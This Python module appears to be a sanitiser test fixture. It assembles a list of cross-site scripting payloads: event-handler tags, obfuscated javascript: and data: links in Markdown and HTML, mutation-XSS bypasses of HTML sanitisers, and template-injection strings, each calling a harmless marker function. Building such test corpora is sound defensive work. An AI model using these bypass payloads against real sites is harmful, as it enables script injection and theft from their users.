"""Script payloads, made from parts: ways to begin a tag, events, addresses, disguises.

The shapes follow those of the OWASP cheat sheets and the published mutation attacks on sanitisers;
each one, if it ran, would call ``ran()``.
"""

from itertools import product

_TAGS = ("img src=x", "svg", "body", "video src=x", "details open", "iframe", "input autofocus",
         "marquee", "object data=x", "math", "style", "xss", "audio src=x", "select autofocus",
         "a href=x")  # fmt: skip
_EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onstart", "onmouseover", "onanimationend")
_ADDRESSES = (
    "javascript:ran()",
    "JaVaScRiPt:ran()",
    "java\tscript:ran()",
    "\x01javascript:ran()",
    "javascript&colon;ran()",
    "&#106;avascript:ran()",
    "javascript&#58;ran()",
    "data:text/html,<script>ran()</script>",
    "data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==",
    "vbscript:ran()",
    "//evil.example/%0ajavascript:ran()",
    "javascript://%0aran()",
    "\u202ejavascript:ran()",
)
_LINKS = (
    "[click]({0})",
    "<{0}>",
    "[a]: {0}\n\n[click][a]",
    '<a href="{0}">click</a>',
    "<a href='{0}' autofocus>x</a>",
    "![x]({0})",
    '<iframe src="{0}"></iframe>',
    '<form action="{0}"><button>x</button></form>',
)
_WHOLE = (
    "<script>ran()</script>",
    "<ScRiPt>ran()</sCrIpT>",
    "<scr<script>ipt>ran()</scr</script>ipt>",
    "\"><script>ran()</script>",
    "'-ran()-'",
    "</textarea><script>ran()</script>",
    "</title><script>ran()</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=ran()>\">",
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title=\"--&gt;&lt;img src=x onerror=ran()&gt;\">",
    "<svg><style><img src=x onerror=ran()></style></svg>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran()>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=ran()>\">",
    "<![CDATA[<script>ran()</script>]]>",
    "<!--><script>ran()</script>-->",
    "<?xml version=\"1.0\"?><script>ran()</script>",
    "{{constructor.constructor('ran()')()}}",
    "${ran()}",
    "`<img src=x onerror=ran()>`",
    "```\n</code></pre><script>ran()</script>\n```",
    "```\"><script>ran()</script>\nx\n```",
    "> <img src=x onerror=ran()>",
    "- <img src=x onerror=ran()>",
    "[x](https://a.example \"onmouseover=ran() x=\")",
    "[x](https://a.example\" onmouseover=\"ran())",
    "**<b onclick=ran()>bold</b>**",
    "@<script>ran()</script>",
    "<base href=\"javascript:ran()//\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:ran()\">",
    "<link rel=stylesheet href=\"javascript:ran()\">",
    "<style>@import 'javascript:ran()';</style>",
    "\u2028<script>ran()</script>",
    "%3Cscript%3Eran()%3C/script%3E",
    "&lt;script&gt;ran()&lt;/script&gt;",
    "\ufeff<script>ran()</script>",
    "＜script＞ran()＜/script＞",
)  # fmt: skip

PAYLOADS: tuple[str, ...] = (
    *(f"<{tag} {event}=ran()>" for tag, event in product(_TAGS, _EVENTS)),
    *(link.format(address) for link, address in product(_LINKS, _ADDRESSES)),
    *_WHOLE,
)
